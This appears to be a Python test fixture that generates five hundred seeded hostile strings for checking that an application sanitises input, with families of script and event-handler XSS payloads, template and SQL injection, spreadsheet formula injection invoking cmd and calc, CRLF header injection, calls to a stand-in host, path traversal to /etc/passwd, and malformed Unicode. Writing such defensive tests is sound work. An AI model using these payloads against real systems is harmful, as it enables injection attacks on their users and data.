"""Five hundred hostile texts, drawn by a seed: twenty families of twenty-five. What each does if anything lets it is set `window.hit`."""

import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

EACH = 25
SEED = 1
#: a server that nobody asks
ELSEWHERE = "http://elsewhere.example"
HIT = "window.hit=1"
#: words with joiners that belong to them (ZWNJ U+200C, ZWJ U+200D): Persian, Sorani, Dari
JOINED = ("می‌خواهم", "خانه‌ها", "نمی‌دانم", "دەڵێ‌م", "ئەو‍ە", "پیام‌ها را می‌رسانم", "کتێب‌ەکان")
MEGABYTE = 1024 * 1024

#: family -> patterns; {n} is a number, {hit} what must never run, {there} who must never be asked
FAMILIES: Mapping[str, tuple[str, ...]] = {
    "script": (
        "<script>{hit}</script>",
        "<SCRIPT SRC={there}/{n}.js></SCRIPT>",
        "</textarea><script>{hit}//{n}</script>",
        "<svg><script>{hit}</script>",
    ),
    "event": (
        "<img src=x onerror={hit}>",
        "<svg/onload={hit}>",
        "<body onload='{hit}'>",
        "<details open ontoggle={hit}>{n}",
        "<input autofocus onfocus={hit}>",
    ),
    "attribute": (
        '"><img src=x onerror={hit}>',
        "' onmouseover='{hit}",
        '" autofocus onfocus="{hit}" x="{n}',
        "`onmouseover={hit}`",
        '"/><svg onload={hit}>',
    ),
    "address": (
        "javascript:{hit}",
        "<a href='javascript:{hit}'>{n}</a>",
        "<iframe src=javascript:{hit}>",
        "data:text/html,<script>{hit}</script>",
        "<form action=javascript:{hit}><button>{n}",
    ),
    "template": (
        "{{{{ 7*{n} }}}}",
        "{{% for x in ().__class__.__base__.__subclasses__() %}}{{% endfor %}}",
        "${{{n}*7}}",
        "#{{{n}}}",
        "{{{{ config }}}}",
        "{{0.__class__}}",
    ),
    "fetch": (
        "<img src={there}/{n}.png>",
        "<link rel=stylesheet href={there}/{n}.css>",
        "<meta http-equiv=refresh content='0;url={there}'>",
        "<base href={there}>",
        "<object data={there}>",
        "<video src={there}>",
    ),
    "style": (
        "<style>*{{background:url({there}/{n})}}</style>",
        "<p style='position:fixed;inset:0;background:red'>{n}",
        "</style><script>{hit}</script>",
        "<div class=band>{n}</div>",
    ),
    "htmx": (
        "<div hx-get={there} hx-trigger=load>{n}</div>",
        "<b hx-on:load='{hit}'>",
        "<div data-hx-get=/sign-out hx-trigger=load>",
        "<button hx-post=/alerts/1/withdraw hx-trigger=load>",
    ),
    "comment": (
        "<!--{n}",
        "--><script>{hit}</script>",
        "<![CDATA[<script>{hit}</script>]]>",
        "<!doctype html><html><body onload={hit}>",
        "&lt;script&gt;{hit}&lt;/script&gt;",
        "&#60;script&#62;{hit}&#60;/script&#62;",
    ),
    "formula": (
        '=HYPERLINK("{there}/{n}")',
        "+{n}+cmd|' /C calc'!A0",
        "-{n}+3+cmd|' /C calc'!D2",
        "@SUM(1+{n})*cmd|' /C calc'!A0",
        '=WEBSERVICE("{there}")',
    ),
    "cells": ("\t=1+{n}", "a;=1+{n};b", '"\n=1+{n}', "\r=1+{n}", "x\";=cmd|'/C calc'!A{n};\"", "＝1+{n}", " =1+{n}"),
    "sql": (
        "'; DROP TABLE person;--{n}",
        "1 OR 1=1 --{n}",
        "\\'; DELETE FROM delivery; --",
        "%' OR name LIKE '%{n}",
        "Robert'); DROP TABLE alert;--",
    ),
    "bidi": ("\u202egnihton{n}", "\u2066{n}\u2067evil\u2069", "\u202a\u202b\u202d{n}", "a\u202e<b>{n}\u202c", "\u061c{n}\u200f"),
    "unseen": ("\u200b{n}\u200b", "\ufeff{n}", "a\u00ad{n}", "\u2060{n}\u2063", "\ufff9{n}\ufffb", "\U000e0041{n}\U000e007f"),
    "joiners": JOINED,
    "surrogate": ("\ud800{n}", "{n}\udfff", "\udc00\ud800{n}", "a\ud83d b{n}", "\udcff\udc80{n}"),
    "control": ("\x00{n}", "a\x00<script>{hit}</script>", "\x1b[31m{n}\x1b[0m", "\x07\x08{n}", "\x7f{n}\x85", "\x0b\x0c{n}\x1c"),
    "header": (
        "{n}\r\nBcc: all@folk.test",
        "{n}\nSet-Cookie: budstikke=1",
        "\r\n\r\n<script>{hit}</script>{n}",
        "{n}%0d%0aLocation: {there}",
        "{n}\u2028X: y\u2029",
    ),
    "marks": (
        "Z" + "\u0301" * 60 + "{n}",
        "\u0e33" * 200 + "{n}",
        "﷽" * 60 + "{n}",
        "👨‍👩‍👧‍👦" * 40 + "{n}",
        "%s%n%x{n}",
        "../../../../etc/passwd\u0000{n}",
        "\u0bcc" * 90,
    ),
    "large": ("A{n}", "<b>{n}", "ش{n}", "<script>{hit}</script>{n}", "{n} "),
}


@dataclass(frozen=True, slots=True)
class Text:
    """One hostile text."""

    family: str
    number: int
    text: str


def texts(seed: int = SEED) -> Iterator[Text]:
    """Return every text, the same for the same seed."""
    rng = random.Random(seed)
    for family, patterns in FAMILIES.items():
        for number in range(EACH):
            yield Text(family, number, _drawn(rng, family, patterns[number % len(patterns)]))


def _drawn(rng: random.Random, family: str, pattern: str) -> str:
    """Fill a pattern; most stand alone, some in a sentence, and the large ones are repeated until they are."""
    made = pattern if family == "joiners" else pattern.format(n=rng.randrange(10, 10_000), hit=HIT, there=ELSEWHERE)
    if family == "large":
        size = rng.choice((3_000, 60_000, MEGABYTE))
        return made * (size // len(made.encode()))
    return rng.choice((made, made, f"Hei {made}", f"{made} takk"))
